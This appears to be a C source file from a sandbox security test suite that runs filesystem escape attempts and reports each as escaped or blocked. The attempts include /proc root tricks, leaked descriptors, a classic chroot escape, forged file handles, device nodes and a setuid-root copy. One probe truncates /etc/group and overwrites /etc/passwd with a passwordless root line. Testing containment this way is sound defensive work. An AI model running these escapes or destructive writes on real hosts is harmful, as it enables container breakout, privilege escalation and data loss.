/* Filesystem attacks: host files, the layers, /proc/<pid>/{root,cwd,fd} tricks, chroot escapes, file
 * handles, device nodes, setuid binaries, leftovers of another sandbox. See docs/SECURITY-TESTS.md. */
#include "attack.h"

#include <dirent.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>

#define MARKER "SANDLET-HOST-SENTINEL"

/* Whether `path` opens as a file holding the host's marker. */
static int holds_marker(const char *path) {
  char buf[512];
  return read_small(path, buf, sizeof buf) > 0 && strstr(buf, MARKER) != NULL;
}

/* argv[1]: a host file holding MARKER. Reads it by its host path and through every root a process
 * inside can name; writes to that path (which inside names the sandbox's own file, if anything). */
static int host_file(int argc, char **argv) {
  if (argc < 2) return verdict(kError, "usage: host-file HOST_PATH");
  const char *prefixes[] = {"", "/proc/1/root", "/proc/self/root", "/proc/1/cwd", "/proc/self/root/../../..",
                            "/proc/1/root/../../..", "/dev/fd/../../.."};
  char path[4096];
  for (size_t i = 0; i < sizeof prefixes / sizeof *prefixes; ++i) {
    snprintf(path, sizeof path, "%s%s", prefixes[i], argv[1]);
    if (holds_marker(path)) return verdict(kEscaped, "read the host's sentinel at %s", path);
  }
  /* Writing: whatever this creates is inside the sandbox; the host checks its own copy. */
  int fd = open(argv[1], O_WRONLY | O_TRUNC);
  if (fd >= 0) {
    if (write(fd, "pwned\n", 6) < 0) {}
    close(fd);
  }
  return verdict(kBlocked, "the host path names nothing of the host's from inside (%zu roots tried)",
                 sizeof prefixes / sizeof *prefixes);
}

static int same_inode(const struct stat *a, const struct stat *b) {
  return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

/* /proc/<pid>/root and cwd, and ".." beyond them, lead only to the sandbox's own root. */
static int proc_root(int argc, char **argv) {
  (void)argc, (void)argv;
  struct stat root, st;
  if (stat("/", &root) != 0) return verdict(kError, "stat /: %s", E());
  const char *paths[] = {"/proc/1/root", "/proc/1/root/..", "/proc/1/root/../..", "/proc/self/root/..",
                         "/proc/1/cwd/../../..", "/proc/self/root/proc/1/root/.."};
  for (size_t i = 0; i < sizeof paths / sizeof *paths; ++i) {
    if (stat(paths[i], &st) != 0) continue;
    if (!same_inode(&st, &root)) return verdict(kEscaped, "%s is not the sandbox's root", paths[i]);
  }
  return verdict(kBlocked, "every /proc root and cwd leads to the sandbox's own /");
}

/* The devices of the mounts this process sees. */
static int visible_dev(dev_t dev) {
  FILE *f = fopen("/proc/self/mountinfo", "r");
  if (!f) return 0;
  char line[4096];
  unsigned maj, min;
  int found = 0;
  while (!found && fgets(line, sizeof line, f))
    if (sscanf(line, "%*d %*d %u:%u", &maj, &min) == 2 && makedev(maj, min) == dev) found = 1;
  fclose(f);
  return found;
}

/* Every descriptor, cwd and root of every process: none is a file or directory of a filesystem the
 * sandbox does not have mounted (a handle leaked from the host). */
static int proc_fds(int argc, char **argv) {
  (void)argc, (void)argv;
  DIR *proc = opendir("/proc");
  if (!proc) return verdict(kError, "opendir /proc: %s", E());
  struct dirent *p;
  int checked = 0, unreadable = 0;
  while ((p = readdir(proc))) {
    if (p->d_name[0] < '0' || p->d_name[0] > '9') continue;
    char dir[300];
    snprintf(dir, sizeof dir, "/proc/%s/fd", p->d_name);
    DIR *fds = opendir(dir);
    if (!fds) {
      ++unreadable;
      continue;
    }
    struct dirent *f;
    while ((f = readdir(fds))) {
      if (f->d_name[0] == '.') continue;
      char path[600], target[512] = "";
      snprintf(path, sizeof path, "%s/%s", dir, f->d_name);
      struct stat st;
      if (stat(path, &st) != 0 || !(S_ISDIR(st.st_mode) || S_ISREG(st.st_mode))) continue;
      ++checked;
      if (!visible_dev(st.st_dev)) {
        ssize_t n = readlink(path, target, sizeof target - 1);
        if (n > 0) target[n] = 0;
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        int opened = fd >= 0;
        if (fd >= 0) close(fd);
        return verdict(kEscaped, "%s -> %s is on a filesystem the sandbox has not mounted (dev %u:%u)%s", path,
                       target, major(st.st_dev), minor(st.st_dev), opened ? ", and it opens" : "");
      }
    }
    closedir(fds);
  }
  closedir(proc);
  return verdict(kBlocked, "%d file descriptors checked, all on the sandbox's own mounts (%d processes' fds unreadable)",
                 checked, unreadable);
}

/* The host paths the overlay mount options name (lowerdir=, upperdir=, workdir=) do not exist inside. */
static int overlay_paths(int argc, char **argv) {
  (void)argc, (void)argv;
  FILE *f = fopen("/proc/self/mountinfo", "r");
  if (!f) return verdict(kError, "mountinfo: %s", E());
  char line[8192];
  int named = 0;
  struct stat root;
  stat("/", &root);
  while (fgets(line, sizeof line, f)) {
    for (const char *key = "lowerdir="; key; key = strcmp(key, "lowerdir=") == 0 ? "upperdir=" : NULL) {
      char *at = strstr(line, key);
      if (!at) continue;
      char *val = at + strlen(key);
      val[strcspn(val, ",\n")] = 0;
      for (char *tok = strtok(val, ":"); tok; tok = strtok(NULL, ":")) {
        ++named;
        struct stat st;
        if (stat(tok, &st) == 0 && S_ISDIR(st.st_mode) && !same_inode(&st, &root) && strcmp(tok, "/") != 0) {
          char probe[4200];
          snprintf(probe, sizeof probe, "%s/bin/busybox", tok);
          if (access(probe, F_OK) == 0) {
            fclose(f);
            return verdict(kEscaped, "the layer directory %s is reachable inside", tok);
          }
        }
      }
      break;
    }
  }
  fclose(f);
  return verdict(kBlocked, "%d layer paths named in mountinfo, none reachable", named);
}

/* Changes to the lower layer's files (copy-up keeps them in the sandbox's upper), and overlay xattrs that
 * would redirect a directory elsewhere. The host checks the layer's digest afterwards. */
static int lower_write(int argc, char **argv) {
  (void)argc, (void)argv;
  int fd = open("/bin/busybox", O_WRONLY);
  if (fd >= 0) {
    if (pwrite(fd, "PWNED", 5, 4096) < 0) {}
    close(fd);
  }
  fd = open("/etc/passwd", O_WRONLY | O_TRUNC);
  if (fd >= 0) {
    if (write(fd, "pwned::0:0::/:/bin/sh\n", 22) < 0) {}
    close(fd);
  }
  unlink("/bin/ls");
  chmod("/etc", 0777);
  if (truncate("/etc/group", 0) != 0) {}
  mkdir("/tmp/redir", 0755);
  /* The overlay's own xattrs: trusted.overlay.*, or user.overlay.* on a mount with "userxattr" (else
   * user.overlay.* is an ordinary user xattr the overlay never reads). */
  char info[8192] = "";
  read_small("/proc/self/mountinfo", info, sizeof info);
  const char *root_line = strstr(info, " / / ");
  char *eol = root_line ? strchr(root_line, '\n') : NULL;
  if (eol) *eol = 0;
  int userxattr = root_line && strstr(root_line, "userxattr") != NULL;
  const char *xattrs[] = {"trusted.overlay.redirect", "trusted.overlay.opaque", "trusted.overlay.origin",
                          "user.overlay.redirect", "user.overlay.opaque"};
  for (size_t i = 0; i < sizeof xattrs / sizeof *xattrs; ++i) {
    int own = strncmp(xattrs[i], "trusted.", 8) == 0 || userxattr;
    if (own && setxattr("/etc", xattrs[i], "/", 1, 0) == 0)
      return verdict(kEscaped, "set the overlay's own %s on an overlay directory", xattrs[i]);
  }
  return verdict(kBlocked, "writes stayed in the sandbox's writable layer; overlay xattrs refused");
}

/* Classic chroot escape: chroot into a subdirectory while holding a descriptor of the old root, climb out
 * with "..", chroot("."). The root reached must still be the sandbox's. */
static int chroot_escape(int argc, char **argv) {
  struct stat root, after;
  if (stat("/", &root) != 0) return verdict(kError, "stat /: %s", E());
  pid_t child = fork();
  if (child == 0) {
    int old = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/jail", 0755);
    if (chroot("/tmp/jail") != 0) _exit(10);
    if (fchdir(old) != 0) _exit(11);
    for (int i = 0; i < 64; ++i)
      if (chdir("..") != 0) break;
    if (chroot(".") != 0) _exit(12);
    if (stat("/", &after) != 0) _exit(13);
    if (!same_inode(&after, &root)) _exit(20);
    if (argc > 1 && holds_marker(argv[1])) _exit(21);
    _exit(0);
  }
  int status = 0;
  waitpid(child, &status, 0);
  int code = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  if (code == 20) return verdict(kEscaped, "climbed above the sandbox's root after chroot");
  if (code == 21) return verdict(kEscaped, "read the host sentinel after a chroot escape");
  if (code == 10) return verdict(kBlocked, "chroot itself refused");
  if (code == 0) return verdict(kBlocked, "chroot + fchdir + .. ends at the sandbox's own root");
  return verdict(kBlocked, "chroot escape steps failed (step %d)", code);
}

/* open_by_handle_at with a handle from name_to_handle_at and with forged ones (inode 2, the usual root of
 * an ext4 filesystem): refused. */
static int file_handles(int argc, char **argv) {
  (void)argc, (void)argv;
  struct {
    unsigned int handle_bytes;
    int handle_type;
    unsigned char f_handle[128];
  } h;
  memset(&h, 0, sizeof h);
  h.handle_bytes = 128;
  int mnt = -1;
  long rc = syscall(SYS_name_to_handle_at, AT_FDCWD, "/", &h, &mnt, 0);
  if (rc == 0) return verdict(kEscaped, "name_to_handle_at gave a handle");
  int first = errno;
  int dirfd = open("/", O_RDONLY | O_DIRECTORY);
  /* FILEID_INO32_GEN (1): inode 2, generation 0 */
  h.handle_bytes = 8;
  h.handle_type = 1;
  memset(h.f_handle, 0, sizeof h.f_handle);
  h.f_handle[0] = 2;
  rc = syscall(SYS_open_by_handle_at, dirfd, &h, O_RDONLY);
  if (rc >= 0) return verdict(kEscaped, "open_by_handle_at opened a forged handle");
  int second = errno;
  if (first != EPERM || second != EPERM)
    return verdict(kEscaped, "not refused by policy: name_to_handle_at %s, open_by_handle_at %s", strerror(first),
                   strerror(second));
  return verdict(kBlocked, "name_to_handle_at and open_by_handle_at: EPERM");
}

/* Device nodes: none can be made (char or block), anywhere. */
static int mknod_devices(int argc, char **argv) {
  (void)argc, (void)argv;
  struct {
    const char *path;
    mode_t type;
    unsigned maj, min;
  } nodes[] = {{"/tmp/mem", S_IFCHR, 1, 1},   {"/tmp/sda", S_IFBLK, 8, 0}, {"/dev/kmsg2", S_IFCHR, 1, 11},
               {"/dev/shm/port", S_IFCHR, 1, 4}, {"/tmp/loop0", S_IFBLK, 7, 0}, {"/tmp/kvm", S_IFCHR, 10, 232}};
  for (size_t i = 0; i < sizeof nodes / sizeof *nodes; ++i)
    if (mknod(nodes[i].path, nodes[i].type | 0666, makedev(nodes[i].maj, nodes[i].min)) == 0)
      return verdict(kEscaped, "made the device node %s (%u:%u)", nodes[i].path, nodes[i].maj, nodes[i].min);
  return verdict(kBlocked, "mknod refused for %zu char and block nodes", sizeof nodes / sizeof *nodes);
}

/* The host's devices are not in the sandbox's /dev. */
static int host_devices(int argc, char **argv) {
  (void)argc, (void)argv;
  const char *devs[] = {"/dev/mem",  "/dev/kmem",   "/dev/port",  "/dev/sda",   "/dev/vda",     "/dev/nvme0n1",
                        "/dev/loop0", "/dev/loop-control", "/dev/kmsg", "/dev/mapper/control", "/dev/fuse",
                        "/dev/net/tun", "/dev/kvm", "/dev/cpu/0/msr", "/dev/console", "/dev/tty0", "/dev/vhost-net",
                        "/dev/userfaultfd", "/dev/btrfs-control", "/dev/snapshot"};
  for (size_t i = 0; i < sizeof devs / sizeof *devs; ++i) {
    int fd = open(devs[i], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd >= 0) {
      close(fd);
      return verdict(kEscaped, "opened the host device %s", devs[i]);
    }
  }
  return verdict(kBlocked, "none of %zu host devices exists or opens", sizeof devs / sizeof *devs);
}

/* A setuid-root copy of this program, run as uid 1000: no-new-privs keeps the caller's identity. */
static int setuid_binary(int argc, char **argv) {
  (void)argc, (void)argv;
  int in = open("/proc/self/exe", O_RDONLY), out = open("/tmp/suid", O_WRONLY | O_CREAT | O_TRUNC, 0755);
  if (in < 0 || out < 0) return verdict(kError, "copy self: %s", E());
  char buf[65536];
  ssize_t n;
  while ((n = read(in, buf, sizeof buf)) > 0)
    if (write(out, buf, n) != n) return verdict(kError, "copy self: %s", E());
  close(in);
  close(out);
  if (chown("/tmp/suid", 0, 0) != 0 || chmod("/tmp/suid", 04755) != 0) return verdict(kError, "chmod u+s: %s", E());
  int pipefd[2];
  if (pipe(pipefd) != 0) return verdict(kError, "pipe: %s", E());
  pid_t child = fork();
  if (child == 0) {
    dup2(pipefd[1], 1);
    if (setgid(1000) != 0 || setuid(1000) != 0) _exit(9);
    execl("/tmp/suid", "/tmp/suid", "euid", (char *)NULL);
    _exit(8);
  }
  close(pipefd[1]);
  char got[64] = "";
  n = read(pipefd[0], got, sizeof got - 1);
  if (n > 0) got[n] = 0;
  waitpid(child, NULL, 0);
  int euid = -1;
  if (sscanf(got, "EUID %d", &euid) != 1) return verdict(kError, "the setuid copy printed \"%s\"", got);
  if (euid == 0) return verdict(kEscaped, "a setuid-root binary gave uid 1000 euid 0");
  return verdict(kBlocked, "the setuid-root binary ran with euid %d (no-new-privs)", euid);
}

static int print_euid(int argc, char **argv) {
  (void)argc, (void)argv;
  printf("EUID %d\n", (int)geteuid());
  return 0;
}

/* argv[1..]: names another sandbox left in its /tmp, /var/tmp and /dev/shm. None is here. */
static int leftovers(int argc, char **argv) {
  const char *dirs[] = {"/tmp", "/var/tmp", "/dev/shm", "/run"};
  for (int i = 1; i < argc; ++i)
    for (size_t d = 0; d < sizeof dirs / sizeof *dirs; ++d) {
      char path[600];
      snprintf(path, sizeof path, "%s/%s", dirs[d], argv[i]);
      if (access(path, F_OK) == 0) return verdict(kEscaped, "another sandbox's %s is here", path);
    }
  return verdict(kBlocked, "none of %d names left by another sandbox is visible", argc - 1);
}

static const struct attack kAttacks[] = {
    {"host-file", host_file},         {"proc-root", proc_root},         {"proc-fds", proc_fds},
    {"overlay-paths", overlay_paths}, {"lower-write", lower_write},     {"chroot-escape", chroot_escape},
    {"file-handles", file_handles},   {"mknod", mknod_devices},         {"host-devices", host_devices},
    {"setuid", setuid_binary},        {"euid", print_euid},             {"leftovers", leftovers},
};
ATTACK_MAIN(kAttacks)
